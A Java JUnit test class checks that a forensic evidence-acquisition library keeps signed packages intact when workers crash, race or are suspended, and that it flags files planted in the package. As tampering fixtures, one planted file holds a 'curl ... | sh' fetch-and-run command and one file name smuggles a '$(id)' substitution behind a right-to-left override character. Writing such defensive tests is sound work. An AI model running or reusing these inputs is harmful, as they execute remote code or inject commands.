package org.ephemera.acquire;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicReference;
import org.ephemera.collect.ClaimLostException;
import org.ephemera.collect.CollectionListener;
import org.ephemera.collect.Deadline;
import org.ephemera.collect.RegisteredSource;
import org.ephemera.collect.WorkerRegistry;
import org.ephemera.format.Json;
import org.ephemera.format.PackageLayout;
import org.ephemera.format.RuntimeRecord;
import org.ephemera.model.Artifact;
import org.ephemera.model.PackageId;
import org.ephemera.model.Volatility;
import org.ephemera.seal.PemSigner;
import org.ephemera.store.Blob;
import org.ephemera.store.DirectoryEvidenceStore;
import org.ephemera.store.EvidenceStore;
import org.ephemera.store.StoreException;
import org.ephemera.store.StoreListing;
import org.ephemera.store.StoredObject;
import org.ephemera.testing.AcquisitionRequests;
import org.ephemera.testing.IndependentVerifiers;
import org.ephemera.testing.InterceptedStore;
import org.ephemera.testing.PagedSource;
import org.ephemera.testing.SignedState;
import org.ephemera.verify.PackageVerifier;
import org.ephemera.verify.VerificationResult;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Workers that crash, run concurrently or are suspended at the worst moments; the package stays intact. */
@Timeout(60)
class WorkerCollisionTest {
    private static final Artifact TASK = PagedSource.artifact("aws.ecs.task", Volatility.V2);
    private static final Artifact LOG = PagedSource.artifact("aws.logs.stream", Volatility.V4);
    private static final List<RegisteredSource> SOURCES = List.of(
            new PagedSource(TASK, 1, 10, List.of(LOG)).registered(),
            new PagedSource(LOG, 3, 100, List.of()).registered());
    private static final List<Artifact> PLANNED = List.of(TASK);

    @TempDir
    Path folder;

    private final TurnableClock clock = new TurnableClock();
    private DirectoryEvidenceStore store;
    private PemSigner signer;

    @BeforeEach
    void setUp() throws IOException {
        store = DirectoryEvidenceStore.open(folder.resolve("evidence"));
        Path key = folder.resolve("key.pem");
        PemSigner.create(key);
        signer = PemSigner.open(key);
    }

    @Test
    void completesOpeningOfCrashedWorker() throws Exception {
        EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(PackageLayout.TRIGGER), () -> {
            throw new StoreException("killed here");
        });
        assertThatThrownBy(() -> worker("a", dying).open(AcquisitionRequests.alert("e-1", Instant.EPOCH), PLANNED))
                .isInstanceOf(StoreException.class);

        PackageId id = run(worker("b", store), "e-2");

        assertIntact(id);
    }

    @Test
    void containsOpeningAlertWhenAlertsAreConcurrent() throws Exception {
        Acquisition second = worker("b", store);
        EvidenceStore overtaken = new InterceptedStore(
                store,
                key -> key.endsWith(PackageLayout.OPEN),
                () -> second.open(AcquisitionRequests.alert("e-2", NOON), PLANNED));

        PackageId id = run(worker("a", overtaken), "e-1");

        assertIntact(id);
    }

    @Test
    void collectsNothingWhenPackageWasSealedMeanwhile() throws Exception {
        Acquisition other = worker("b", store);
        OpenPackage opened = other.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        EvidenceStore overtaken = new InterceptedStore(store, key -> key.startsWith("work/"), () -> other.seal(opened));
        Acquisition slow = worker("a", overtaken);

        slow.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
        slow.seal(opened);

        assertIntact(opened.open().packageId());
    }

    @Test
    void writesNothingAfterSuspensionDuringSealing() throws Exception {
        Acquisition[] other = new Acquisition[1];
        EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(PackageLayout.INDEX), () -> {
            clock.turn(Duration.ofMinutes(5));
            other[0].seal(other[0].open(AcquisitionRequests.alert("e-1", NOON), PLANNED));
        });
        other[0] = worker("b", store);
        Acquisition sleeper = worker("a", sleeping);
        OpenPackage opened = sleeper.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        sleeper.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));

        assertThatThrownBy(() -> sleeper.seal(opened)).isInstanceOf(ClaimLostException.class);

        assertIntact(opened.open().packageId());
    }

    /**
     * A run that seals at its deadline, including unfinished items, and fails while sealing; the next run collects the
     * rest.
     */
    @Test
    void indexesItemsCollectedAfterFailedSealing() throws Exception {
        EvidenceStore failing = new InterceptedStore(store, key -> key.endsWith(PackageLayout.OUTCOMES), () -> {
            throw new StoreException("refused once");
        });
        Acquisition first = worker("a", failing);
        OpenPackage opened = first.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        assertThatThrownBy(() -> first.seal(opened)).hasMessageContaining("refused once");

        Acquisition second = worker("b", store);
        Deadline time = Deadline.in(clock, Duration.ofMinutes(1));
        assertThat(second.finish(opened, time)).isPresent();

        assertIntact(opened.open().packageId());
        assertThat(PackageVerifier.verify(store, opened.open().packageId(), signer.publicKey())
                        .verdict())
                .isEqualTo(VerificationResult.INTACT);
    }

    @Test
    void sealsCopyWhenFileIsPlanted() throws Exception {
        Acquisition worker = worker("a", store);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
        store.create(opened.open().packageId().prefix() + PackageLayout.VERIFY, Blob.of(planted));
        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));

        requireSealedCopy(worker, opened);
    }

    /** No other worker uses the name of this attempt, so an object at the path of its body is not its body. */
    @Test
    void collectsAgainWhenBodyPathIsOccupied() throws Exception {
        String[] place = new String[1];
        EvidenceStore overtaken = new InterceptedStore(
                store,
                key -> {
                    place[0] = key;
                    return key.contains("/" + PackageLayout.RAW);
                },
                () -> store.create(place[0], Blob.of("planted".getBytes(StandardCharsets.UTF_8))));
        Acquisition worker = worker("a", overtaken);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        String prefix = opened.open().packageId().prefix();
        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
        String planted = foreignBody(prefix);

        assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
        assertForeign(opened, planted);
    }

    private String foreignBody(String prefix) throws IOException {
        for (StoredObject object : StoreListing.of(store, prefix + PackageLayout.RAW)) {
            if (Files.readString(folder.resolve("evidence").resolve(object.key()))
                    .equals("planted")) {
                return object.key().substring(prefix.length());
            }
        }
        throw new IOException("nothing was planted");
    }

    /** No planted segment counts, whatever it states; the package lists it as foreign. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "no JSON",
                "{\"event\":\"session.start\",\"item\":\"aws.ecs.task\"}",
                "{\"event\":\"segment.close\",\"item\":\"aws.ecs.task\",\"state\":\"finished\",\"outcome\":\"FINE\"}",
                "{\"event\":\"item.planned\",\"item\":\"aws.ecs.task\",\"planned\":{\"item\":\"\"}}",
                "{\"event\":\"segment.open\",\"item\":\"test.never-planned\",\"attempt\":\"0badc0de\"}"
            })
    void listsPlantedLogSegment(String line) throws Exception {
        Acquisition worker = worker("a", store);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        String path = PackageLayout.segment("aws.ecs.task", "0badc0de", 1);
        store.create(
                opened.open().packageId().prefix() + path, Blob.of((line + "\n").getBytes(StandardCharsets.UTF_8)));

        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));

        assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
        assertForeign(opened, path);
    }

    @Test
    void collectsAgainWhenPathOfLogSegmentIsOccupied() throws Exception {
        AtomicReference<@Nullable String> segment = new AtomicReference<>();
        EvidenceStore attacked = new InterceptedStore(
                store,
                key -> key.contains(PackageLayout.ACQUISITION)
                        && key.endsWith(".jsonl")
                        && segment.compareAndSet(null, key),
                () -> store.create(Objects.requireNonNull(segment.get()), Blob.of(new byte[] {'{', '}'})));
        Acquisition worker = worker("a", attacked);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);

        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));

        assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
        assertThat(foreign(opened))
                .contains(Objects.requireNonNull(segment.get())
                        .substring(opened.open().packageId().prefix().length()));
        assertIntact(opened.open().packageId());
    }

    /** Files with names that the collector never uses. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "data/notes.txt",
                "data/trigger/event2.json",
                "data/raw/loot.bin",
                "data/acquisition/notes.txt",
                "data/acquisition/aws.ecs.task.jsonl",
                "data/acquisition/aws.ecs.task-00000000-0001.jsonl.bak",
                "data/acquisition/run-0123456789abcdef.dsse.json"
            })
    void listsForeignFile(String path) throws Exception {
        Acquisition worker = worker("a", store);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        Path planted =
                folder.resolve("evidence").resolve(opened.open().packageId().prefix() + path);
        Files.createDirectories(planted.getParent());
        Files.writeString(planted, "planted");

        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));

        assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
        assertForeign(opened, path);
    }

    /** Names that a folder cannot contain next to the package's own, or that a file browser creates. */
    @ParameterizedTest
    @ValueSource(strings = {"data/.DS_Store", "data/Notes.txt", "data/raw/loot.bin~", "data/raw/00 \u202e$(id)"})
    void sealsCopyWhenNameIsInvalid(String path) throws Exception {
        Acquisition worker = worker("a", store);
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
        Path planted =
                folder.resolve("evidence").resolve(opened.open().packageId().prefix() + path);
        Files.createDirectories(planted.getParent());
        Files.writeString(planted, "planted");

        requireSealedCopy(worker, opened);
    }

    private void requireSealedCopy(Acquisition worker, OpenPackage opened) throws Exception {
        PackageId copy = worker.seal(opened).statement().packageId();
        assertThat(copy).isNotEqualTo(opened.open().packageId());
        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.SEAL))
                .doesNotExist();
        assertIntact(copy);
        assertThat(worker.isSealed(opened)).isTrue();
    }

    @Test
    void ignoresInvalidClaim() throws Exception {
        Acquisition worker = worker("a", SignedState.over(store, folder.resolve("state.pem")));
        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
        PackageId id = opened.open().packageId();
        store.create("work/" + id + "/000001.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
        store.create("work/" + id + "/zzz.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
        worker.seal(opened);

        assertIntact(id);
    }

    private static final Instant NOON = Instant.parse("2026-11-25T12:05:00Z");

    private PackageId run(Acquisition worker, String event) throws IOException {
        OpenPackage opened = worker.open(AcquisitionRequests.alert(event, NOON), PLANNED);
        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
        worker.seal(opened);
        return opened.open().packageId();
    }

    private void assertForeign(OpenPackage opened, String path) throws Exception {
        assertThat(foreign(opened)).containsExactly(path);
        assertIntact(opened.open().packageId());
        assertThat(PackageVerifier.verify(store, opened.open().packageId(), signer.publicKey())
                        .verdict())
                .isEqualTo(VerificationResult.INTACT);
    }

    private List<String> foreign(OpenPackage opened) throws IOException {
        List<String> paths = new ArrayList<>();
        for (String line : Files.readAllLines(
                folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.FOREIGN))) {
            paths.add(Json.parse(line.getBytes(StandardCharsets.UTF_8))
                    .path("path")
                    .asText());
        }
        return paths;
    }

    private void assertIntact(PackageId id) throws Exception {
        IndependentVerifiers.accept(folder.resolve("evidence").resolve(id.prefix()), signer.publicKey());
    }

    private Acquisition worker(String name, EvidenceStore to) {
        return new Acquisition(
                SOURCES,
                to,
                signer,
                WorkerRegistry.unknown(name),
                CollectionListener.NONE,
                RuntimeRecord.local(Map.of()),
                clock);
    }

    private static final class TurnableClock extends Clock {
        private final Instant started = Clock.systemUTC().instant();
        private volatile Instant noon = NOON;

        void turn(Duration time) {
            noon = noon.plus(time);
        }

        @Override
        public Instant instant() {
            return noon.plus(Duration.between(started, Clock.systemUTC().instant()));
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }
    }
}
